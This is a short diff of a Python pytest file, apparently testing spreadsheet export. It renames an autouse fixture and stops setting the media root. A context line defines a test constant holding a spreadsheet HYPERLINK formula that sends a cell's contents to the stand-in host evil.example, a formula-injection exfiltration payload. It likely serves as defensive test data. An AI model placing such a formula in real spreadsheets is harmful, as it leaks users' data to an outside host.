@@ -33,8 +33,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
 
 
 @pytest.fixture(autouse=True)
-def media(settings: Any, tmp_path: Any) -> None:
-    settings.MEDIA_ROOT = tmp_path
+def report_language(settings: Any) -> None:
     settings.REPORT_LANGUAGE = "en"
 
 
